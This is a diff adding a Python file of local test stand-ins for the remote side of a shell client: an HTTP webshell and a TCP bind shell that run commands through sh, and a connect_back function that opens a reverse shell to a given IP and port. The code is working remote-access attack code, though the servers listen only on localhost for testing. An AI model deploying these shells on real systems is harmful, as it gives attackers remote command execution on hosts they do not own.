@@ -0,0 +1,116 @@
+# Local stand-ins for the remote side of the client, a webshell over
+# HTTP and a shell bound to a TCP socket, both running commands with sh
+import json
+import socket
+import subprocess
+from threading import Thread
+from urllib.parse import urlparse, parse_qs
+from http.server import ThreadingHTTPServer, BaseHTTPRequestHandler
+
+
+def _run(cmd):
+	proc = subprocess.run(["sh", "-c", cmd], capture_output=True)
+	return proc.stdout + proc.stderr
+
+
+class WebshellStandIn():
+
+	def __init__(self, method="post", post_body_format="json",
+				command_key="cmd", token_key=None, token=None):
+		self.method = method
+		self.post_body_format = post_body_format
+		self.command_key = command_key
+		self.token_key = token_key
+		self.token = token
+
+		stand_in = self
+
+		class Handler(BaseHTTPRequestHandler):
+			protocol_version = "HTTP/1.1"
+			# Headers and body go out in two writes, with Nagle the body
+			# waits for the delayed ack of the headers
+			disable_nagle_algorithm = True
+
+			def _reply(self, status, body):
+				self.send_response(status)
+				self.send_header("Content-Length", str(len(body)))
+				self.end_headers()
+				self.wfile.write(body)
+
+			def _handle(self, params):
+				if (stand_in.token_key is not None and
+					params.get(stand_in.token_key) != stand_in.token):
+					return self._reply(403, b"Forbidden")
+				cmd = params.get(stand_in.command_key)
+				if cmd is None:
+					return self._reply(400, b"Missing command")
+				self._reply(200, _run(cmd))
+
+			def do_GET(self):
+				if stand_in.method != "get":
+					return self._reply(405, b"")
+				query = parse_qs(urlparse(self.path).query)
+				self._handle({key: values[0] for key, values in query.items()})
+
+			def do_POST(self):
+				if stand_in.method != "post":
+					return self._reply(405, b"")
+				body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
+				if stand_in.post_body_format == "json":
+					params = json.loads(body)
+				else:
+					params = {
+						key: values[0]
+						for key, values in parse_qs(body.decode("utf-8")).items()
+					}
+				self._handle(params)
+
+			def log_message(self, *args):
+				pass
+
+		self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+		self._server.daemon_threads = True
+		Thread(target=self._server.serve_forever, daemon=True).start()
+
+	@property
+	def uri(self):
+		return f"http://localhost:{self._server.server_port}/"
+
+	def close(self):
+		self._server.shutdown()
+		self._server.server_close()
+
+
+def _spawn_shell(conn):
+	subprocess.Popen(["sh"], stdin=conn, stdout=conn, stderr=conn)
+	conn.close()
+
+
+class BindShellStandIn():
+
+	def __init__(self):
+		self._server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+		self._server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+		self._server.bind(("127.0.0.1", 0))
+		self._server.listen(8)
+		Thread(target=self._accept_thread, daemon=True).start()
+
+	def _accept_thread(self):
+		while True:
+			try:
+				conn, _ = self._server.accept()
+			except OSError:
+				return
+			_spawn_shell(conn)
+
+	@property
+	def uri(self):
+		return f"socket://127.0.0.1:{self._server.getsockname()[1]}"
+
+	def close(self):
+		self._server.close()
+
+
+def connect_back(ip, port):
+	# A reverse shell, connects to the listener and runs sh on the socket
+	_spawn_shell(socket.create_connection((ip, port)))